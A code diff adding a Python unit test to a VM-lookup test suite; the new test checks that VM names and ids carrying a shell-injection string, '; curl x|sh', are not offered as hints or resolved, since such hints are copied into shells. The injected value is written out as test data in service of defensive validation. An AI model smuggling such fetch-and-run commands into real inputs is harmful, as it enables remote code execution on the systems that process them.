@@ -64,6 +64,14 @@ def test_few_letters_are_the_beginning_of_an_id_of_whatever_host() -> None:
     assert session.commands.count("list-vms") == 1
 
 
+def test_what_can_be_no_id_or_no_name_is_none_whoever_says_so() -> None:
+    """Hints have both in commands, which are copied into shells."""
+    evil = "; curl x|sh"
+    session = MemorySession({"h1": [vm("abcdefgh", name=f"web{evil}"), vm(f"ac{evil}")]})
+    assert resolve(session, ["ab"], 5) == [Found("abcdefgh")]
+    assert isinstance(fails(session, "ac"), UnknownVm)
+
+
 def test_an_ambiguous_beginning_names_the_candidates() -> None:
     session = MemorySession({"h1": [vm("abcdefgh", name="web1"), vm("abzzzzzz")]})
     error = fails(session, "ab")
